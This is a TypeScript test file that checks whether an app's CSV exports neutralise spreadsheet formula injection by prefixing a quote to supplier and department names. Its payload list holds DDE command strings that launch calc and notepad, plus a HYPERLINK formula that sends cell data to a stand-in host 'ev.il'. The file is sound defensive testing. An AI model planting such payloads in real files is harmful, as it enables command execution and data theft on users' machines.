import { testDatabases } from '@app/db/testing';
import { departmentListCsv, overviewCsv, supplierListCsv } from '@app/reports';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { restTestApp, YEAR } from './testApp.ts';

/**
 * CSV formula injection (issue 26, README "CSV cells"): the OWASP payloads put through the API into
 * a supplier's name (a Standard user can) and departments' names and commanders (an administrator)
 * come out of every CSV export — statistics (REST download), union overview, department list,
 * supplier list (the web builds those from the tRPC export data with the same functions) — with a
 * `'` in front; amounts and phone numbers stay as they are.
 */
const PAYLOADS = [`=cmd|' /C calc'!A0`, '+1+1', '-2+3', '@SUM(1)', '=HYPERLINK("http://ev.il?"&A1;"x")', '\t=1+1', '\r=1+1', `-cmd|' /C notepad'!A0`, '+thing'];

/** The cells of a CSV export (BOM off, semicolons, CRLF). */
function cells(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter: ';', newline: '\r\n', skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

for (const target of testDatabases()) {
  describe(`CSV exports neutralise formulas [${target.name}]`, () => {
    const t = restTestApp(target, { ipPrefix: '10.26.3', signIn: ['supervisor', 'admin', 'kassier'], departments: true });
    const trpcQuery = async (user: string, path: string, input: unknown) => {
      const res = await t.app.inject({ method: 'GET', url: `/trpc/${path}?input=${encodeURIComponent(JSON.stringify(input))}`, headers: t.auth(user) });
      expect(res.statusCode, res.body).toBe(200);
      return res.json().result.data;
    };
    /** Department code → the name as stored (the names are read back: the API trims text). */
    const storedNames = new Map<string, string>();
    const storedCommanders = new Map<string, string>();
    const supplierNames = new Map<number, string>();
    const codes = ['000', '100', '101', '102', '200', '201', '202'];

    beforeAll(async () => {
      const union = t.dept('000');
      for (const [i, code] of codes.entries()) {
        const payload = PAYLOADS[i] as string;
        const patch = {
          name1Deu: payload,
          name2Deu: 'Wehr',
          commander: { name: PAYLOADS[(i + 3) % PAYLOADS.length] as string },
          landlinePhone: '+39 0471 123456',
        };
        const res = await t.call('admin', 'PATCH', `Departments/${t.dept(code)}?departmentId=${union}`, patch);
        expect(res.statusCode, res.body).toBe(200);
        const stored = res.json() as { name1Deu: string; name2Deu: string; commander: { name: string } };
        storedNames.set(code, `${stored.name1Deu} ${stored.name2Deu}`);
        storedCommanders.set(code, stored.commander.name);
      }
      const dept = t.dept('101');
      for (const [i, payload] of [...PAYLOADS, '-1.234,56', '+39 0471 654321'].entries()) {
        const res = await t.call('kassier', 'POST', `Suppliers?departmentId=${dept}&year=${YEAR}`, {
          code: 3000 + i,
          searchKey: `Inj${i}`,
          name1: payload,
          landlinePhone: '+39 0471 123456',
        });
        expect(res.statusCode, res.body).toBe(200);
        supplierNames.set(3000 + i, res.json().name1 as string);
      }
    });

    /** A formula payload as stored comes out with a ' in front; the stored text still starts like a formula (the test can fail). */
    const neutralised = (stored: string) => {
      expect(stored).toMatch(/^[=+\-@\t\r]/);
      return `'${stored}`;
    };

    it('the supplier list: names with a formula get a quote, an amount and a phone number stay', async () => {
      const data = await trpcQuery('kassier', 'suppliers.export', { departmentId: t.dept('101'), language: 'de', sort: 'code' });
      const rows = cells(supplierListCsv(data));
      const byCode = new Map(rows.slice(1).map((r) => [Number(r[0]), r]));
      for (let i = 0; i < PAYLOADS.length; i++) {
        const row = byCode.get(3000 + i) as string[];
        expect(row[2], PAYLOADS[i]).toBe(neutralised(supplierNames.get(3000 + i) as string));
        expect(row[6]).toBe('+39 0471 123456');
      }
      expect(byCode.get(3000 + PAYLOADS.length)?.[2]).toBe('-1.234,56');
      expect(byCode.get(3001 + PAYLOADS.length)?.[2]).toBe('+39 0471 654321');
      // the exact text in the file: the quote goes inside the field's quotes where the separator needs them
      expect(supplierListCsv(data)).toContain(`\r\n3000;INJ0;'=cmd|' /C calc'!A0;`);
      expect(supplierListCsv(data)).toContain(`\r\n3004;INJ4;"'=HYPERLINK(""http://ev.il?""&A1;""x"")";`);
    });

    it('the department list: names and commanders with a formula get a quote, the phone stays', async () => {
      const data = await trpcQuery('admin', 'departments.export', { departmentId: t.dept('000'), language: 'de' });
      const rows = cells(departmentListCsv(data));
      for (const code of codes) {
        const row = rows.find((r) => r[0] === code) as string[];
        expect(row[1]).toBe(neutralised(storedNames.get(code) as string));
        expect(row[3]).toBe(neutralised(storedCommanders.get(code) as string));
        expect(row[5]).toBe('+39 0471 123456');
      }
    });

    it('the union overview: department names with a formula get a quote, amounts stay', async () => {
      const data = await trpcQuery('supervisor', 'overview.departmentsExport', { departmentId: t.dept('000'), year: YEAR, language: 'de' });
      const rows = cells(overviewCsv(data));
      for (const code of codes) {
        const row = rows.find((r) => r[0] === code) as string[];
        expect(row[1]).toBe(neutralised(storedNames.get(code) as string));
      }
      // a negative balance would keep its minus: every amount column is a plain amount
      for (const row of rows.slice(1)) for (const amount of row.slice(3, 7)) expect(amount).toMatch(/^-?\d+,\d{2}$/);
    });

    it('the statistics download: department names with a formula get a quote, amounts stay', async () => {
      const res = await t.call('supervisor', 'GET', `statistics?language=de&yearFrom=${YEAR - 1}&yearTo=${YEAR - 1}&withChapters=false`);
      expect(res.statusCode).toBe(200);
      const rows = cells(res.body);
      for (const code of codes) {
        const row = rows.find((r) => r[0] === code);
        if (!row) continue; // a department without figures that year has no line
        expect(row[1]).toBe(neutralised(storedNames.get(code) as string));
        for (const amount of row.slice(4)) expect(amount).toMatch(/^-?\d+,\d{2}$/);
      }
      expect(rows.find((r) => r[0] === '101')?.[1]).toBe("'-2+3 Wehr");
    });
  });
}
